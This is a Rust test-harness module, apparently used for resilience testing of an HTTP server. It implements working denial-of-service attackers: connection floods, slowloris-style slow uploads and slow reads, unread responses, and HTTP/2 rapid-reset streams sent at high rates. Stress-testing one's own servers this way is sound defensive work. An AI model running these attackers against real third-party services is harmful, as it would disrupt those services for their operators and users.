//! Attackers over TCP: silence, slow uploads, responses that are not read or read slowly, event streams, resets.

use super::{
    Attacker, BYTE, SLOW, SLOW_PIECE, SLOW_READ, SLOW_WINDOW, SMALL, Shared, SlowUpload, TICK, UNREAD, due,
    wire::{self, Ask},
};
use crate::client::tls;
use anyhow::{Context as _, Result};
use litequic_testkit::h2;
use std::{
    cell::{Cell, RefCell},
    net::{IpAddr, SocketAddr},
    rc::Rc,
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, BufReader, ReadHalf, WriteHalf, split},
    net::{TcpSocket, TcpStream},
    task::spawn_local,
    time::{Instant, sleep, timeout},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

/// Connections a second that say nothing.
pub(super) const SILENT_RATE: u32 = 300;
/// Requests a second that are reset, over each protocol, from all connections together.
pub(super) const RESET_RATE: u32 = 4_000;
/// For a connection, its handshake included.
const CONNECT: Duration = Duration::from_secs(10);
/// The kernel's receive buffer for unread bytes: the smallest that can be requested.
const RECEIVE_BUFFER: u32 = 4096; // bytes
/// An attacker over HTTP/1.1 that does not read cannot see that it was closed: it begins anew after so long.
const LIFE: Duration = Duration::from_secs(20);
/// What is offered of windows over HTTP/2 to a response that is not read, a stream and more a connection.
const STREAM_WINDOW: u32 = 1 << 20; // bytes
const CONNECTION_WINDOW: u32 = 256 << 20; // bytes
/// Read at a time.
const PIECE: usize = 16 * 1024; // bytes

/// Opens a connection.
pub(super) async fn connect(from: IpAddr, to: SocketAddr, receive_buffer: Option<u32>) -> Result<TcpStream> {
    let socket = if from.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
    if let Some(size) = receive_buffer {
        socket.set_recv_buffer_size(size)?;
    }
    socket.bind((from, 0).into())?;
    let stream = socket.connect(to).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Opens an attacker's connection with TLS.
async fn secure(
    attacker: &Attacker,
    protocol: &'static str,
    receive_buffer: Option<u32>,
) -> Result<TlsStream<TcpStream>> {
    let Attacker { shared, from, .. } = attacker;
    let config = shared.tls.borrow_mut().of(protocol)?;
    let handshake = async {
        let stream = connect(*from, shared.target.address, receive_buffer).await?;
        anyhow::Ok(TlsConnector::from(config).connect(tls::name()?, stream).await?)
    };
    let stream = timeout(CONNECT, handshake).await.context("no connection in time")??;
    shared.count(|tally| tally.connections += 1);
    Ok(stream)
}

/// Opens connections that say nothing, at a rate; each stays until the server closes it, or the process ends.
pub(super) async fn silent(shared: Rc<Shared>, to: SocketAddr) {
    let (began, mut opened) = (Instant::now(), 0);
    while !shared.is_over() {
        while u64::from(opened) < due(SILENT_RATE, began.elapsed()) {
            let from = shared.sources.nth(opened, to);
            opened += 1;
            let shared = Rc::clone(&shared);
            spawn_local(async move {
                let stream = timeout(CONNECT, connect(from, to, None)).await;
                if let Ok(Ok(mut stream)) = stream {
                    shared.count(|tally| tally.connections += 1);
                    // Until it is closed.
                    let _ = stream.read(&mut [0]).await;
                }
                shared.count(|tally| tally.closed += 1);
            });
        }
        sleep(TICK).await;
    }
}

/// A slow upload over HTTP/1.1.
pub(super) async fn upload_h1(attacker: Attacker, slow: SlowUpload) -> Result<()> {
    let mut stream = secure(&attacker, "http/1.1", None).await?;
    stream.write_all(&wire::h1(slow.ask)).await?;
    attacker.count(|tally| tally.requests += 1);
    let piece = wire::h1_piece(slow.ask, slow.piece);
    loop {
        stream.write_all(&piece).await?;
        stream.flush().await?;
        // Whatever is answered, it is over.
        if let Ok(answer) = timeout(BYTE, stream.read(&mut [0; PIECE])).await {
            answer?;
            return Ok(());
        }
    }
}

/// A response over HTTP/1.1 that is not read.
pub(super) async fn unread_h1(attacker: Attacker) -> Result<()> {
    let mut stream = secure(&attacker, "http/1.1", Some(RECEIVE_BUFFER)).await?;
    stream.write_all(&wire::h1(Ask::Get(UNREAD))).await?;
    stream.flush().await?;
    attacker.count(|tally| tally.requests += 1);
    sleep(LIFE).await;
    Ok(())
}

/// A response over HTTP/1.1 that is read slowly.
pub(super) async fn slow_h1(attacker: Attacker) -> Result<()> {
    let mut stream = secure(&attacker, "http/1.1", Some(RECEIVE_BUFFER)).await?;
    stream.write_all(&wire::h1(Ask::Get(SLOW))).await?;
    stream.flush().await?;
    attacker.count(|tally| tally.requests += 1);
    let mut piece = vec![0; usize::try_from(SLOW_PIECE)?];
    while stream.read(&mut piece).await? > 0 {
        sleep(SLOW_READ).await;
    }
    Ok(())
}

/// A response over HTTP/1.1 that does not end, or begins late.
pub(super) async fn wait_h1(attacker: Attacker, ask: Ask) -> Result<()> {
    let mut stream = secure(&attacker, "http/1.1", None).await?;
    stream.write_all(&wire::h1(ask)).await?;
    stream.flush().await?;
    attacker.count(|tally| tally.requests += 1);
    let mut piece = vec![0; PIECE];
    while stream.read(&mut piece).await? > 0 {}
    Ok(())
}

/// Slow uploads over HTTP/2. One that ends is followed by another.
pub(super) async fn upload_h2(attacker: Attacker, slow: SlowUpload) -> Result<()> {
    let piece = |stream| h2::frame(h2::DATA, 0, stream, slow.piece);
    keep_up(attacker, &slow.ask, STREAM_WINDOW, BYTE, piece).await
}

/// Responses over HTTP/2 that are read slowly. One that ends is followed by another.
pub(super) async fn slow_h2(attacker: Attacker) -> Result<()> {
    let more = |stream| h2::frame(h2::WINDOW_UPDATE, 0, stream, &SLOW_PIECE.to_be_bytes());
    keep_up(attacker, &Ask::Get(SLOW), SLOW_WINDOW, SLOW_READ, more).await
}

/// Responses over HTTP/2 that do not end, or begin late. One that ends is followed by another.
pub(super) async fn wait_h2(attacker: Attacker, ask: Ask) -> Result<()> {
    keep_up(attacker, &ask, STREAM_WINDOW, BYTE, |_| Vec::new()).await
}

/// Keeps as many requests in flight as the attacker has streams, and sends what `more` says on each of them, at an
/// interval, until the connection ends.
async fn keep_up(
    attacker: Attacker,
    ask: &Ask,
    stream_window: u32,
    interval: Duration,
    more: impl Fn(u32) -> Vec<u8>,
) -> Result<()> {
    let (reader, mut writer) = begin_h2(&attacker, None, stream_window).await?;
    let (ended, is_open) = (Rc::new(RefCell::new(Vec::new())), Rc::new(Cell::new(true)));
    spawn_local(note_ends(reader, Rc::clone(&ended), Rc::clone(&is_open)));
    let (mut streams, mut next): (Vec<u32>, u32) = (Vec::new(), 1);
    while is_open.get() {
        let over = ended.take();
        streams.retain(|stream| !over.contains(stream));
        let mut frames = Vec::new();
        while streams.len() < attacker.streams {
            frames.extend(wire::h2_headers(*ask, next));
            streams.push(next);
            next += 2;
            attacker.count(|tally| tally.requests += 1);
        }
        frames.extend(streams.iter().flat_map(|stream| more(*stream)));
        writer.write_all(&frames).await?;
        writer.flush().await?;
        sleep(interval).await;
    }
    Ok(())
}

/// Responses over HTTP/2, none of which is read.
pub(super) async fn unread_h2(attacker: Attacker) -> Result<()> {
    let (_reader, mut writer) = begin_h2(&attacker, Some(RECEIVE_BUFFER), STREAM_WINDOW).await?;
    let streams = (0..attacker.streams).filter_map(|nth| u32::try_from(nth * 2 + 1).ok());
    let frames: Vec<u8> = streams.flat_map(|stream| wire::h2_headers(Ask::Get(UNREAD), stream)).collect();
    writer.write_all(&frames).await?;
    attacker.count(|tally| tally.requests += attacker.streams as u64);
    loop {
        // Fails once the server has reset the connection.
        writer.write_all(&h2::frame(h2::PING, 0, 0, &[0; 8])).await?;
        writer.flush().await?;
        sleep(BYTE).await;
    }
}

/// Requests over HTTP/2 that are reset as soon as they are sent.
pub(super) async fn resets(attacker: Attacker) -> Result<()> {
    let (mut reader, mut writer) = begin_h2(&attacker, None, STREAM_WINDOW).await?;
    let is_open = Rc::new(Cell::new(true));
    let still = Rc::clone(&is_open);
    spawn_local(async move {
        let mut piece = vec![0; PIECE];
        while reader.read(&mut piece).await.is_ok_and(|read| read > 0) {}
        still.set(false);
    });
    let (began, mut sent, mut stream) = (Instant::now(), 0, 1);
    while is_open.get() {
        let mut frames = Vec::new();
        while sent < due(RESET_RATE, began.elapsed()) / u64::from(attacker.siblings) {
            frames.extend(wire::h2_headers(Ask::Get(SMALL), stream));
            frames.extend(h2::frame(h2::RST_STREAM, 0, stream, &wire::CANCEL));
            (sent, stream) = (sent + 1, stream + 2);
            attacker.count(|tally| tally.requests += 1);
        }
        writer.write_all(&frames).await?;
        writer.flush().await?;
        sleep(TICK).await;
    }
    Ok(())
}

type Halves = (ReadHalf<TlsStream<TcpStream>>, WriteHalf<TlsStream<TcpStream>>);

/// Opens a connection of HTTP/2: settings are exchanged, and windows offered.
async fn begin_h2(attacker: &Attacker, receive_buffer: Option<u32>, stream_window: u32) -> Result<Halves> {
    let (mut reader, mut writer) = split(secure(attacker, "h2", receive_buffer).await?);
    writer.write_all(&wire::h2_preface(stream_window, CONNECTION_WINDOW)).await?;
    writer.flush().await?;
    // The server's SETTINGS come first.
    let mut header = [0; h2::HEADER];
    timeout(CONNECT, reader.read_exact(&mut header)).await.context("no settings in time")??;
    reader.read_exact(&mut vec![0; h2::FrameHeader::read(header).length]).await?;
    writer.write_all(&h2::frame(h2::SETTINGS, h2::ACK, 0, &[])).await?;
    writer.flush().await?;
    Ok((reader, writer))
}

/// Notes the streams that the server ends or resets, until the connection ends.
async fn note_ends(reader: ReadHalf<TlsStream<TcpStream>>, ended: Rc<RefCell<Vec<u32>>>, is_open: Rc<Cell<bool>>) {
    let mut reader = BufReader::with_capacity(PIECE, reader);
    let mut header = [0; h2::HEADER];
    while reader.read_exact(&mut header).await.is_ok() {
        let h2::FrameHeader { kind, flags, stream, length } = h2::FrameHeader::read(header);
        if reader.read_exact(&mut vec![0; length]).await.is_err() {
            break;
        }
        let is_end = matches!(kind, h2::DATA | h2::HEADERS) && flags & h2::END_STREAM != 0;
        if is_end || kind == h2::RST_STREAM {
            ended.borrow_mut().push(stream);
        }
    }
    is_open.set(false);
}
